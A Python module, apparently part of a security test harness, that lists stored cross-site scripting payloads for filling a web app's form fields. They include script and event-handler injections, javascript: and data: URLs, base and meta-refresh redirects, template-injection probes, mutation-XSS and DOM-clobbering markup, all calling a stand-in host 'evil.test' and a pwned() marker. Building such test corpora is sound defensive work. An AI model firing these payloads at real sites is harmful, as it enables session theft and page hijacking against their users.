"""What somebody may write into any field that is kept, to make a page do his will; and what tells that he has managed. Pure."""

from __future__ import annotations

FOREIGN = "evil.test"
"""No page asks this host for anything."""
MARK = "x7"
"""An attribute of every element in the corpus: where it is in a page's tree, text has become markup."""
SHORT = (
    f"'\"></title></textarea></script><img {MARK} src=//{FOREIGN}/1 onerror=pwned()>",
    f'" {MARK} autofocus onfocus=pwned() a="',
    f"' {MARK} autofocus onfocus=pwned() a='",
    f"<a {MARK} id=main name=body href=javascript:pwned()>",
    f"<base {MARK} href=//{FOREIGN}/>",
    f"<form {MARK} id=list><input {MARK} name=attributes>",
    f"<svg {MARK} onload=pwned()>",
    f"<script {MARK}>pwned()</script>",
    "{{ 7|add:7 }}{% debug %}${7*7}<%= 7*7 %>",
    f"<iframe {MARK} srcdoc='<script>parent.pwned()</script>'>",
)
"""Fit a name of 80 characters, beside the field's mark."""
LONG = (
    f"<style {MARK}>@import '//{FOREIGN}/2'; body{{background:url(//{FOREIGN}/3)}}</style>",
    f"<link {MARK} rel=stylesheet href=//{FOREIGN}/4><link {MARK} rel=prefetch href=//{FOREIGN}/5>",
    f"<meta {MARK} http-equiv=refresh content='0;url=//{FOREIGN}/6'>",
    f"--><script {MARK}>pwned()</script><!--]]><![CDATA[",
    f"\u2028</script><script {MARK} src=//{FOREIGN}/7></script>",
    f"<math {MARK}><mtext><table><mglyph><style><img {MARK} src=x onerror=pwned()></style>",
    f"<details {MARK} open ontoggle=pwned()><summary {MARK}>x</summary></details>",
    f"&lt;img {MARK} src=x onerror=pwned()&gt; &#60;script&#62;pwned()&#60;/script&#62;",
    f"![picture](https://{FOREIGN}/8) [link](javascript:pwned()) [link](data:text/html,<script>pwned()</script>)",
    f"[words]: https://{FOREIGN}/9 \"t' onmouseover='pwned()\"\n![x][words] <https://{FOREIGN}/10'onclick='pwned()>",
    f"<img {MARK} src=x id=getElementById name=querySelector><object {MARK} data=//{FOREIGN}/11></object>",
    f"<button {MARK} hx-get=/chat/list/ hx-trigger=load hx-on:load=pwned()>x</button>",
    f"<video {MARK} src=//{FOREIGN}/12 onerror=pwned()><embed {MARK} src=//{FOREIGN}/13>",
    "javascript:pwned()//",
)
ADDRESSES = (
    "javascript:pwned()//",
    f'https://{FOREIGN}/"onmouseover=pwned()//',
    "data:text/html,<script>pwned()</script>",
)
"""For fields that hold an address."""
ROUNDS = 2
"""So often every page is looked at, each time with other payloads in the short fields."""


def text(mark: str, *, most: int | None, turn: int, address: bool = False) -> str:
    """The field's mark and as many payloads as fit, in another order each turn."""
    corpus = ADDRESSES if address else (*SHORT, *LONG)
    start = turn % len(corpus)
    said = mark if not address else corpus[start] + mark
    for payload in () if address else (*corpus[start:], *corpus[:start]):
        if most is None or len(said) + len(payload) + 1 <= most:
            said += " " + payload
    return said
